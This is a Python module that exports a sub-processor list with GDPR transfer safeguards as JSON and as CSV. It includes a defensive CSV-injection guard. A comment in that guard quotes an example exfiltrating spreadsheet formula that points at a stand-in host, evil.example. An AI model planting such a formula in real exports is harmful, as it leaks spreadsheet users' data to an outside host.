"""Export stage: the sub-processor list as JSON and as CSV (the same rows)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

from trustsite.export.models import ScopeEntry, SubprocessorEntry, SubprocessorsExport, Transfer, UpcomingChange
from trustsite.model.exports import SCHEMA_VERSION
from trustsite.model.files import Project
from trustsite.model.lifecycle import (change_concerns_scope, concerns_scope, current_subprocessors, upcoming,
                                       upcoming_subprocessors)
from trustsite.rules import load_transfer_rules
from trustsite.validate.transfers import mechanism_for, transfer_destinations


def transfers_of(project: Project, entry: Any, home: str | None) -> list[Transfer]:
    """One Transfer per destination and declared regime under which going there is a transfer."""
    rules = load_transfer_rules()
    regimes = list(dict.fromkeys(["gdpr", *project.organisation.regimes]))
    out = []
    for destination in transfer_destinations(entry, home):
        for regime in regimes:
            if destination in rules.regimes[regime].home:
                continue
            spec = mechanism_for(entry, destination, regime)
            key = spec.mechanism if spec is not None else "adequacy"
            tia = spec.tia.date if spec is not None and spec.tia is not None else None
            fallback = spec.fallback.mechanism if spec is not None and spec.fallback is not None else None
            out.append(Transfer(country=destination, regime=regime, safeguard=key,
                                article=rules.mechanisms[key].article_in(regime),
                                module=spec.module if spec is not None else None,
                                importer=spec.importer if spec is not None else None, tia=tia, fallback=fallback))
    return out


def build_subprocessors(project: Project, today: dt.date, schema_url: str, scope: str | None = None) -> SubprocessorsExport:
    """The current sub-processors and the announced upcoming ones (all of them, or those concerning one scope's
    customers), with the announced changes not yet in effect."""
    current = current_subprocessors(project, today)
    listed = {**current, **upcoming_subprocessors(project, today)}
    if scope is not None:
        listed = {sid: sub for sid, sub in listed.items() if concerns_scope(sub, scope, project)}
    entries = []
    for sid in sorted(listed):
        sub = listed[sid]
        transfers = transfers_of(project, sub, sub.entity_country)
        entries.append(SubprocessorEntry(
            id=sid, name=sub.name, legal_entity=sub.legal_entity, entity_country=sub.entity_country,
            category=sub.category, service=dict(sub.service.root), purposes=list(sub.purposes),
            data_categories=list(sub.data_categories), processing_locations=list(sub.processing_locations),
            access_locations=list(sub.access_locations), transfers=transfers, website=sub.website, since=sub.since,
            planned=sub.since > today, status="current" if sid in current else "upcoming", scopes=list(sub.scopes),
            engagement=sub.engagement, condition=dict(sub.condition.root) if sub.condition is not None else None,
        ))
    changes = [t for t in upcoming(project, today) if scope is None or change_concerns_scope(project, t.change, scope)]
    objections = project.organisation.subprocessor_objections
    used_purposes = sorted({p for e in entries for p in e.purposes})
    used_categories = sorted({c for e in entries for c in e.data_categories})
    return SubprocessorsExport(
        schema_=schema_url, schema_version=SCHEMA_VERSION, generated=today,
        controller=project.organisation.controller.legal_name, languages=list(project.languages),
        purposes={p: dict(project.purposes[p].title.root) for p in used_purposes},
        data_categories={c: dict(project.data_categories[c].title.root) for c in used_categories},
        subprocessors=entries,
        scope=scope,
        scopes={k: ScopeEntry(kind=v.kind, title=dict(v.title.root)) for k, v in sorted(project.scopes.items())},
        upcoming_changes=[UpcomingChange(
            id=t.cid, change=t.change.change, subprocessor=t.change.subprocessor, replaces=t.change.replaces,
            announced=t.announced, objection_deadline=t.deadline, effective=t.effective,
            summary=dict(t.change.summary.root)) for t in changes],
        objections=objections.model_dump(exclude_none=True) if objections is not None else {},
    )


def subprocessors_json(export: SubprocessorsExport) -> str:
    return json.dumps(export.model_dump(mode="json", by_alias=True), indent=2, ensure_ascii=False) + "\n"


LIST_SEPARATOR = ";"  # inside one CSV cell; IDs and country codes never contain it


def csv_columns(languages: list[str]) -> list[str]:
    """The CSV header: one column per JSON field, texts split per language (service_en, service_nl, ...)."""
    return ["id", "name", "legal_entity", "entity_country", "category",
            *[f"service_{lang}" for lang in languages],
            "purposes", "data_categories", "processing_locations", "access_locations", "transfers",
            "website", "since", "planned", "status", "scopes", "engagement",
            *[f"condition_{lang}" for lang in languages]]  # status ... since 1.1.0: appended, so that readers that
    # address columns by position keep working


def csv_row(entry: SubprocessorEntry, languages: list[str]) -> dict[str, str]:
    """One CSV row of a JSON entry; lists are joined with ';', transfers written COUNTRY:safeguard for the
    EU/EEA GDPR and COUNTRY:safeguard:regime for the other regimes."""
    return {
        "id": entry.id, "name": entry.name, "legal_entity": entry.legal_entity,
        "entity_country": entry.entity_country, "category": entry.category,
        **{f"service_{lang}": entry.service[lang] for lang in languages},
        "purposes": LIST_SEPARATOR.join(entry.purposes),
        "data_categories": LIST_SEPARATOR.join(entry.data_categories),
        "processing_locations": LIST_SEPARATOR.join(entry.processing_locations),
        "access_locations": LIST_SEPARATOR.join(entry.access_locations),
        "transfers": LIST_SEPARATOR.join(f"{t.country}:{t.safeguard}" + ("" if t.regime == "gdpr" else f":{t.regime}")
                                         for t in entry.transfers),
        "website": entry.website, "since": entry.since.isoformat(), "planned": "true" if entry.planned else "false",
        "status": entry.status, "scopes": LIST_SEPARATOR.join(entry.scopes), "engagement": entry.engagement,
        **{f"condition_{lang}": (entry.condition or {}).get(lang, "") for lang in languages},
    }


# A cell a spreadsheet would read as a formula (=HYPERLINK("https://evil.example/?"&A1, ...) in a name sends
# other cells to another host when the file is opened): OWASP "CSV Injection" lists these first characters
# and recommends a leading single quote, which spreadsheets show as text and do not evaluate.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: str) -> str:
    """The cell as text a spreadsheet never evaluates: a leading ' before a formula's first character."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def subprocessors_csv(export: SubprocessorsExport) -> str:
    """RFC 4180 CSV (UTF-8, CRLF line ends), one row per sub-processor, in the JSON's order; no cell starts
    like a formula (neutralise_cell). The JSON export keeps every value as it is."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=csv_columns(export.languages), lineterminator="\r\n")
    writer.writeheader()
    for entry in export.subprocessors:
        writer.writerow({key: neutralise_cell(value) for key, value in csv_row(entry, export.languages).items()})
    return buffer.getvalue()
